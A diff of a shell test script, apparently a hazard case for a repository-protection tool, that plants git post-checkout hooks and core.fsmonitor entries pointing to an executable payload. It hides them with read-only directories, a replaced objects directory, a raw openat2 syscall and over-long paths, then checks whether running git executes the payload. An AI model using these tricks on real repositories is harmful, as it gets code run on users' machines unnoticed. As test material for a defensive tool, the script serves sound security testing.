@@ -1,20 +1,13 @@
 #!/bin/sh
 # files.protect, hazard 6: the same by ways on which cordon might lose sight of them, or not be able to set aside.
 # plant: observer.notes
-evil() { # DIRECTORY: of a repository
-	mkdir -p "$1/hooks"
-	printf '#!/bin/sh\nexec "%s/run-me"\n' "$WORK" >"$1/hooks/post-checkout"
-	chmod 755 "$1/hooks/post-checkout"
-	git --git-dir="$1" config core.fsmonitor "$WORK/run-me"
-}
-
 act() {
 	payload >run-me && chmod 755 run-me
 	# git asks no more of `objects` than that it can be executed
-	git init -q by-objects && evil by-objects/.git && rm -r by-objects/.git/objects &&
+	git init -q by-objects && make_evil by-objects/.git && rm -r by-objects/.git/objects &&
 		: >by-objects/.git/objects && chmod 755 by-objects/.git/objects
 	# files that could not be moved away, for want of rights
-	git init -q by-mode && evil by-mode/.git && chmod 555 by-mode/.git/hooks by-mode/.git
+	git init -q by-mode && make_evil by-mode/.git && chmod 555 by-mode/.git/hooks by-mode/.git
 	# by a call whose flags no filter can read
 	python3 - <<-END
 		import ctypes, os
@@ -24,7 +17,7 @@ act() {
 		file = ctypes.CDLL(None).syscall(437, -100, b"by-openat2/.git/HEAD", how, 24)
 		os.write(file, b"ref: refs/heads/main\n")
 	END
-	evil by-openat2/.git
+	make_evil by-openat2/.git
 	# where no path is short enough to name it, and then moved to where one is
 	python3 - <<-END
 		import os, subprocess
@@ -41,11 +34,8 @@ act() {
 }
 
 happened() {
-	for place in by-objects by-mode by-openat2 by-depth; do
-		git -C "$WORK/$place" status >/dev/null 2>&1
-		git -C "$WORK/$place" checkout -q -b topic >/dev/null 2>&1
-	done
+	look_into by-objects by-mode by-openat2 by-depth
 	[ -e "$WORLD/owned" ]
 }
 
-. "$VERIFY/attempt.sh"
+. "$VERIFY/git.sh"
